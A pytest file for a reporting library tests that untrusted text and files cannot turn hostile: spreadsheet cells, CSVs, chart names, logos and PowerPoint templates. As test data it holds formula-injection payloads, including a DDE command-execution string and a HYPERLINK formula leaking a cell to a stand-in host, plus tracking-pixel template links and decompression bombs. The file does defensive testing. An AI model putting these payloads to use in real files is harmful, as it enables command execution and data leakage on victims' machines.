"""Text from strangers in cells, charts, names, logos and templates."""

import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import matplotlib as mpl
import matplotlib.pyplot as plt
import pandas as pd
import pytest
from PIL import Image
from pptx import Presentation
from python_calamine import CalamineWorkbook
from typer.testing import CliRunner

import rhem_lib as rhem
from rhem_lib.cli import app
from rhem_lib.deck import csv_text, open_template
from rhem_lib.deck.charts import ChartData
from rhem_lib.errors import SettingsError
from rhem_lib.figures import theme
from rhem_lib.settings import Brand, normal_name, shown_name

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"Error\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "http://x.example/pixel",
    "mailto:a@x.example",
    "external:c:\\x.xlsx",
    "123",
]  # fmt: skip
TEMPLATE = Path(rhem.__file__).parent / "templates/review.pptx"


def test_workbooks_inside_charts_hold_text_as_text():
    data = ChartData()
    data.categories = FORMULAS
    data.add_series("=2+2", range(len(FORMULAS)))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data.xlsx_blob)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:]] == FORMULAS and rows[0][1] == "=2+2"
    with zipfile.ZipFile(io.BytesIO(data.xlsx_blob)) as package:
        assert not any(
            b"<f>" in package.read(name) or b"hyperlink" in package.read(name) for name in package.namelist()
        )
        assert not any("External" in package.read(name).decode() for name in package.namelist() if ".rels" in name)


def test_no_cell_of_a_csv_starts_as_a_formula():
    frame = pd.DataFrame({"=head": FORMULAS, "n": range(len(FORMULAS))})
    text = csv_text(frame)
    read = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    for cell in [*read.columns, *read.iloc[:, 0]]:
        assert not re.match("[=+@\t\r\n＝＋－＠-]", cell), cell


def test_the_panel_and_the_quarantine_are_guarded_in_every_path(workspace, monkeypatch, tmp_path):
    rows = "".join(
        f'{i},"{name.replace(chr(34), chr(34) * 2)}",2026-05-0{1 + i % 9},1\n'
        for i, name in enumerate(FORMULAS[:8])
    )
    bad = ["=1+1", "+cmd", "@x", "-x"]
    rows += "".join(f"q{i},Nord,{cell},1\n" for i, cell in enumerate(bad))
    folder = workspace({"time.csv": f"entry_id,client,worked_on,hours\n{rows}",
                        "pcs-2026-05-31.csv": "client,device_id\nNord,1\n"})  # fmt: skip
    monkeypatch.chdir(tmp_path)
    run = CliRunner()
    printed = run.invoke(app, ["measure", str(folder)])
    assert run.invoke(app, ["measure", str(folder), "--out", "panel.csv"]).exit_code == 0
    assert run.invoke(app, ["check", str(folder)]).exit_code == 0
    texts = [
        printed.output,
        Path("panel.csv").read_text(),
        next(Path("reports").rglob("quarantine.csv")).read_text(),
    ]
    for text in texts:
        for cell in pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False).to_numpy().ravel():
            assert not re.match(r"[=+@\t\r]|-(?![\d.]+$)", cell), cell


@pytest.mark.parametrize(
    "name", ["$", "$x_{1}$", "a $ b $ c", r"\frac{1}{2} $\alpha", "$$", r"$\undefined{", "%_^&~#", r"$x^2^3$"]
)
def test_a_name_is_never_read_as_mathematics(name):
    @theme.styled
    def draw():
        ax = theme.axes(None)
        ax.barh([name, "b"], [1, 2], label=name)
        theme.title(ax, name)
        ax.legend()
        return theme.png(ax)

    assert draw().startswith(b"\x89PNG")


def test_figures_look_the_same_whatever_the_machine_says():
    @theme.styled
    def draw():
        ax = theme.axes(None)
        ax.plot([1, 2], label="a")
        theme.title(ax, "A title")
        return theme.png(ax)

    before = draw()
    strange = {
        "font.size": 40,
        "axes.facecolor": "black",
        "text.color": "black",
        "lines.linewidth": 0.1,
        "figure.dpi": 20,
    }
    with mpl.rc_context(strange):
        assert draw() == before
    plt.close("all")


@pytest.mark.many_cases
@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("Caf\u00e9", "Cafe\u0301"),
        ("Nord\u200b Dental", "Nord Dental"),
        ("\ufeffNord", "nord"),
        ("No\u00adrd", "Nord"),
        ("\u202eNord", "Nord"),
        ("Nord\x07", "Nord"),
        ("No\uffffrd", "Nord"),
        ("Nord\u00a0 Dental", "Nord Dental"),
        ("Nord\u2060Dental", "NordDental"),
        ("Nord\u200dX", "NordX"),
        ("\uac00\ub098", "\u1100\u1161\u1102\u1161"),
    ],
)
def test_names_that_look_the_same_are_one_client(workspace, one, other):
    assert normal_name(one) == normal_name(other) and shown_name(shown_name(one)) == shown_name(one)
    text = f'entry_id,client,worked_on,hours\n1,"{one}",2026-05-04,1\n2,"{other}",2026-05-05,2\n'
    work = rhem.load(workspace({"time.csv": text}))
    assert work.time_entries.df()["hours"].sum() == 3
    assert len(work.clients) == 1 and work.clients["client"].iloc[0] in (shown_name(one), shown_name(other))


def test_control_characters_in_words_are_taken_out_and_hours_stay(workspace):
    rows = "".join(
        f'{n},C,2026-05-04,1,"Re{sign}mote"\n' for n, sign in enumerate("\x01\x08\x0b\x1f\x7f\x85\ufffe\uffff")
    )
    rows += '9,"\x02\u200b",2026-05-04,1,Remote\n'
    work = rhem.load(workspace({"time.csv": f"entry_id,client,worked_on,hours,work_type\n{rows}"}))
    entries = work.time_entries.df()
    assert set(entries["work_type"]) == {"Remote"} and entries["hours"].sum() == 9
    assert set(work.clients["client"]) == {"C", "(no visible name)"}


def picture(kind="PNG", size=(20, 20)):
    made = io.BytesIO()
    Image.new("RGB", size).save(made, kind)
    return made.getvalue()


BAD_LOGOS = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://x.example/p"/></svg>',
    "cut": picture(size=(300, 300))[:80],
    "empty": b"",
    "text": b"logo",
    "bmp": picture("BMP"),
    "tiff": picture("TIFF"),
    "bomb": picture()[:16] + (60_000).to_bytes(4, "big") * 2 + picture()[24:],
    "zeros": b"\x89PNG\r\n\x1a\n" + bytes(100),
}


@pytest.mark.parametrize("kind", BAD_LOGOS)
def test_a_logo_that_no_deck_can_show_is_one_sentence(tmp_path, kind):
    (tmp_path / "logo.png").write_bytes(BAD_LOGOS[kind])
    with pytest.raises(SettingsError, match=r"this logo .* Save it as PNG or JPEG of at most 40 million pixels"):
        open_template(Brand(logo=str(tmp_path / "logo.png")))


def test_a_good_logo_is_taken(tmp_path):
    for kind in ("PNG", "JPEG", "GIF"):
        (tmp_path / "logo").write_bytes(picture(kind))
        open_template(Brand(logo=str(tmp_path / "logo")))


def changed(path, **parts):
    """Copy our template with parts added, or text put into the first of a kind."""
    with zipfile.ZipFile(TEMPLATE) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            for part, (before, after) in parts.get("text", {}).items():
                if name == part:
                    assert before in content
                    content = content.replace(before, after)
            new.writestr(name, content)
        for name, content in parts.get("more", {}).items():
            new.writestr(name, content)
    return path


RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
OUTSIDE = (
    b'<Relationship Id="rIdX" TargetMode="External" Target="%s" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"/></Relationships>'
)
BAD_TEMPLATES = {
    "pixel": {"text": {RELS: (b"</Relationships>", OUTSIDE % (b"http://x.example/p.png", b"image"))}},
    "share": {"text": {RELS: (b"</Relationships>", OUTSIDE % (b"file://host/share/p.png", b"image"))}},
    "object": {"text": {RELS: (b"</Relationships>", OUTSIDE % (b"http://x.example/o", b"oleObject"))}},
    "theme": {"text": {RELS: (b"</Relationships>", OUTSIDE % (b"http://x.example/t", b"attachedTemplate"))}},
    "macro": {"more": {"ppt/vbaProject.bin": b"x"}},
    "embedded": {"more": {"ppt/embeddings/oleObject1.bin": b"x"}},
    "activeX": {"more": {"ppt/activeX/activeX1.xml": b"<x/>"}},
    "macro type": {"text": {"[Content_Types].xml": (b"presentationml.presentation.main", b"macroEnabled.main")}},
}


@pytest.mark.parametrize("kind", BAD_TEMPLATES)
def test_a_template_with_code_or_links_elsewhere_is_refused(tmp_path, kind):
    path = changed(tmp_path / "own.pptx", **BAD_TEMPLATES[kind])
    with pytest.raises(
        SettingsError, match=r"the template has macros, embedded objects or links to files elsewhere"
    ):
        open_template(Brand(template=str(path)))


def test_a_template_may_link_to_a_page_and_a_bomb_is_refused(tmp_path):
    link = {RELS: (b"</Relationships>", OUTSIDE % (b"https://msp.example", b"hyperlink"))}
    open_template(Brand(template=str(changed(tmp_path / "own.pptx", text=link))))
    bomb = changed(tmp_path / "bomb.pptx", more={"ppt/media/x.bin": bytes(301_000_000)})
    with pytest.raises(SettingsError, match=r"this template unpacks to \d+ MB"):
        open_template(Brand(template=str(bomb)))
    (tmp_path / "bad.pptx").write_bytes(b"PK\x03\x04 nothing")
    with pytest.raises(SettingsError, match=r"this is not a \.pptx presentation"):
        open_template(Brand(template=str(tmp_path / "bad.pptx")))


@pytest.mark.parametrize("args", [["measure", "{w}"], ["--version"]])
def test_a_full_standard_output_is_a_sentence(workspace, args):
    folder = workspace({"time.csv": "entry_id,client,worked_on,hours\n1,Nord,2026-05-04,1\n"})
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    command = [sys.executable, "-m", "rhem_lib.cli", *(arg.format(w=folder) for arg in args)]
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True, cwd=folder, check=False)
    assert (
        done.returncode == 2
        and done.stderr.strip() == "rhem: the output cannot be written: No space left on device."
    )


@pytest.mark.parametrize("out", ["none/x.csv", "none/deep/x.parquet", "rhem.toml/x.csv", "x.txt", "x"])
def test_a_place_that_cannot_be_written_is_a_sentence_before_anything_is_read(workspace, out, monkeypatch):
    folder = workspace({"time.csv": "x"})
    monkeypatch.chdir(folder)
    done = CliRunner().invoke(app, ["measure", str(folder), "--out", out])
    assert done.exit_code == 2 and ("there is no folder" in done.output or "must end in" in done.output)


def test_json_of_a_hostile_workspace_can_be_read(workspace):
    rows = "".join(f'{n},"{name.replace(chr(34), chr(34) * 2)}",2026-05-04,1\n' for n, name in enumerate(FORMULAS))
    folder = workspace({"time.csv": f"entry_id,client,worked_on,hours\n{rows}"})
    done = CliRunner().invoke(app, ["check", str(folder), "--json"])
    assert json.loads(done.output)["hours"]["read"] == len(FORMULAS)


def test_the_template_of_the_package_is_clean():
    open_template(Brand(template=str(TEMPLATE)))
    assert len(Presentation(TEMPLATE).slides) == 0
